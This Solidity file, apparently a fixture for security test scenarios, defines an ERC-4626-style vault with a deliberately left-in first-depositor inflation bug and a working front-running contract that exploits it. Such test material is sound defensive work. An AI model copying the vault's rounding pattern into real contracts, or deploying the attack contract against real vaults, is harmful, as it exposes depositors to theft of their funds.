// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IERC20} from "./Interfaces.sol";
import {Pair} from "./Amm.sol";
import {swapThrough} from "./Attackers.sol";

/// @title ShareVault: an ERC-4626-style vault (deposit, redeem, the conversions) whose
/// shares are worth its token balance over its supply, plus a keeper that sells the
/// reward tokens the vault earns for more of its asset.
/// @notice Written for seqguard's scenarios. BUG, the ERC-4626 inflation ("first
/// depositor") attack that OpenZeppelin answered with virtual shares in 4.9 (2023) and
/// that Compound forks met as empty-market donations (Hundred Finance, April 2023): no
/// virtual or dead shares, and `deposit` rounds down with no zero-shares check, so
/// whoever holds the only share can donate enough to make the next deposit mint nothing,
/// and then redeem that deposit along with its own.
contract ShareVault {
    IERC20 public immutable asset;
    address public immutable keeper;
    string public name;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Deposit(address indexed sender, address indexed owner, uint256 assets, uint256 shares);
    event Withdraw(
        address indexed sender, address indexed receiver, address indexed owner, uint256 assets,
        uint256 shares
    );
    event Harvest(address indexed reward, uint256 sold, uint256 gained);

    constructor(IERC20 asset_, string memory name_, address keeper_) {
        (asset, name, keeper) = (asset_, name_, keeper_);
    }

    function totalAssets() public view returns (uint256) {
        return asset.balanceOf(address(this));
    }

    function convertToShares(uint256 assets) public view returns (uint256) {
        uint256 supply = totalSupply;
        return supply == 0 ? assets : assets * supply / totalAssets();
    }

    function convertToAssets(uint256 shares) public view returns (uint256) {
        uint256 supply = totalSupply;
        return supply == 0 ? shares : shares * totalAssets() / supply;
    }

    /// The bug: rounds down, and a deposit worth less than one share mints zero.
    function deposit(uint256 assets, address receiver) external returns (uint256 shares) {
        shares = convertToShares(assets);
        require(asset.transferFrom(msg.sender, address(this), assets));
        totalSupply += shares;
        balanceOf[receiver] += shares;
        emit Transfer(address(0), receiver, shares);
        emit Deposit(msg.sender, receiver, assets, shares);
    }

    function redeem(uint256 shares, address receiver, address owner) external returns (uint256 assets) {
        require(msg.sender == owner, "ShareVault: not the owner");
        assets = convertToAssets(shares);
        balanceOf[owner] -= shares;
        totalSupply -= shares;
        emit Transfer(owner, address(0), shares);
        require(asset.transfer(receiver, assets));
        emit Withdraw(msg.sender, receiver, owner, assets, shares);
    }

    /// The keeper sells every reward token the vault holds through `pair`; the proceeds
    /// stay in the vault and raise the value of every share.
    function harvest(Pair pair, IERC20 reward, uint256 minOut) external returns (uint256 gained) {
        require(msg.sender == keeper, "ShareVault: keeper only");
        require(address(reward) != address(asset), "ShareVault: not a reward");
        uint256 sold = reward.balanceOf(address(this));
        gained = swapThrough(pair, address(reward), sold, address(this));
        require(gained >= minOut, "ShareVault: too little received");
        emit Harvest(address(reward), sold, gained);
    }
}

/// @title InflationFrontRunner: takes the only share of an empty ShareVault, donates to
/// make it dear, and redeems it after a victim's deposit minted nothing.
/// @notice The ERC-4626 inflation attack, written for seqguard's scenarios: `prime` runs
/// before the victim's deposit, `cashOut` after; `cashOut` reverts unless it gets back
/// more than `prime` put in.
contract InflationFrontRunner {
    ShareVault public immutable vault;
    address private immutable owner;
    uint256 public invested;

    constructor(ShareVault vault_) {
        (vault, owner) = (vault_, msg.sender);
    }

    function prime(uint256 donation) external {
        require(msg.sender == owner, "InflationFrontRunner: owner only");
        IERC20 asset = vault.asset();
        asset.approve(address(vault), 1);
        vault.deposit(1, address(this)); // one wei, one share: the whole supply
        require(asset.transfer(address(vault), donation)); // one share is now worth it all
        invested = 1 + donation;
    }

    function cashOut() external {
        require(msg.sender == owner, "InflationFrontRunner: owner only");
        uint256 assets = vault.redeem(vault.balanceOf(address(this)), owner, address(this));
        require(assets > invested, "InflationFrontRunner: no profit");
    }
}
